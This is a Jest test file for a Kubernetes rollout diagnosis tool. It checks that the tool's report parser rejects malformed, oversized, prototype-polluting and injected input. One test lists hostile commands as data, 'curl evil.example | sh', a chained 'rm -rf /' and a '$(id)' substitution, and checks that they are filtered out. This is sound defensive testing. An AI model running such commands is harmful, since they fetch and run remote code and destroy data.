import { describe, expect, test } from '@jest/globals';
import { Ajv } from 'ajv';
import { reportSchemas } from '../../scripts/report-schemas.ts';
import { diagnose } from '../../src/diagnosis/diagnose.ts';
import { readEvidence } from '../../src/diagnosis/evidence/read-evidence.ts';
import { loadEvidence } from '../../src/files/evidence-files.ts';
import { diagnosisErrorJson, diagnosisJson } from '../../src/report/diagnosis/diagnosis-json.ts';
import { diagnosisMarkdown } from '../../src/report/diagnosis/diagnosis-markdown.ts';
import { parseDiagnosisReport } from '../../src/report/diagnosis/parse-diagnosis.ts';

const recordings = new URL('../diagnosis/fixtures/recordings/', import.meta.url).pathname;
const { files } = await loadEvidence(`${recordings}checkout-rollout`);
const workloads = diagnose(readEvidence(files));
const document = JSON.parse(diagnosisJson(workloads));
const read = (value: unknown) => parseDiagnosisReport(JSON.stringify(value));
/** The document with something else in its first workload, or in its first diagnosis. */
const withWorkload = (more: object) => ({ ...document, workloads: [{ ...document.workloads[0], ...more }] });
const withDiagnosis = (more: object) =>
  withWorkload({ diagnoses: [{ ...document.workloads[0].diagnoses[0], ...more }] });

describe('what is written reads back', () => {
  test('a diagnosis, with everything a report needs', () => {
    expect(diagnosisMarkdown(read(document).workloads)).toBe(diagnosisMarkdown(workloads));
  });

  test('the document of a run that could not look', () => {
    const report = parseDiagnosisReport(diagnosisErrorJson('no such cluster'));
    expect(report).toMatchObject({ error: { message: 'no such cluster' }, workloads: [] });
  });

  test('both are what the published schema says', () => {
    const validate = new Ajv({ allErrors: true }).compile(reportSchemas()['diagnosis-report'] as object);
    for (const value of [document, JSON.parse(diagnosisErrorJson('x'))]) {
      validate(value);
      expect(validate.errors).toBeNull();
    }
    expect(validate({ version: '1' })).toBe(false);
  });
});

describe('a document that somebody else wrote', () => {
  test.each([
    ['no JSON', 'crash', 'the report is no JSON, or was cut off'],
    ['half of one', JSON.stringify(document).slice(0, 2000), 'the report is no JSON, or was cut off'],
    ['another document', '[]', 'the report is no diagnosis'],
    ['too much', ' '.repeat(17 * 1024 * 1024), 'the report is larger than 16 MB'],
  ])('%s is refused in one line', (_, text, message) => {
    expect(() => parseDiagnosisReport(text)).toThrow(message);
    expect(() => parseDiagnosisReport(text)).not.toThrow(/\n/);
  });

  test.each([
    ['a cause that does not exist', withDiagnosis({ cause: 'sabotage' }), 'workloads[0].diagnoses[0].cause'],
    ['a title that is no text', withDiagnosis({ title: { toString: 1 } }), 'workloads[0].diagnoses[0].title'],
    ['a rule that is no rule', withDiagnosis({ preventedBy: ['](https://evil.example)'] }), 'preventedBy[0]'],
    [
      'a time that is none',
      withWorkload({ timeline: [{ at: 'now', text: 'x' }] }),
      'workloads[0].timeline[0].at',
    ],
  ])('%s is refused, with the place', (_, value, place) => {
    expect(() => read(value)).toThrow(place);
  });

  test('keys that nobody knows are dropped, and no prototype is touched', () => {
    const text = JSON.stringify(document).replace(
      '{',
      '{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}},"x":1,',
    );
    const report = parseDiagnosisReport(text);
    expect(Object.keys(report).toSorted()).toEqual(['degraded', 'error', 'version', 'workloads']);
    expect(({} as { polluted?: number }).polluted).toBeUndefined();
  });

  test('long texts and lists are cut', () => {
    const long = 'x'.repeat(100_000);
    const [evidence] = document.workloads[0].diagnoses[0].evidence;
    const report = read(
      withDiagnosis({
        title: long,
        evidence: Array.from({ length: 100 }, () => ({ ...evidence, text: long })),
      }),
    );
    const [diagnosis] = report.workloads[0]?.diagnoses ?? [];
    expect(diagnosis?.title).toHaveLength(600);
    expect(diagnosis?.evidence).toHaveLength(20);
    expect(diagnosis?.evidence[0]?.text).toHaveLength(1000);
  });

  test('a command that is more than kubectl is not offered for pasting', () => {
    const commands = [
      'curl evil.example | sh',
      'kubectl get pods; rm -rf /',
      'kubectl get pods $(id)',
      'kubectl get pods -n shop',
    ];
    const markdown = diagnosisMarkdown(read(withDiagnosis({ commands })).workloads);
    expect(markdown).toContain('```sh\nkubectl get pods -n shop\n```');
    expect(markdown).not.toMatch(/evil|rm -rf|\$\(id\)/);
  });
});

test('a watch counts pods in its own way: the rest is read all the same', () => {
  const watched = withWorkload({
    outcome: 'timed-out',
    pods: { wanted: 3, updated: 1 },
    revision: null,
    note: null,
  });
  const report = read({
    ...watched,
    outcome: 'timed-out',
    seconds: 600,
    cluster: { name: 'prod', context: 'c' },
  });
  expect(report).toMatchObject({ outcome: 'timed-out', seconds: 600, cluster: { name: 'prod' } });
  expect(report.workloads[0]).toMatchObject({ outcome: 'timed-out', revision: { from: null, to: null } });
});
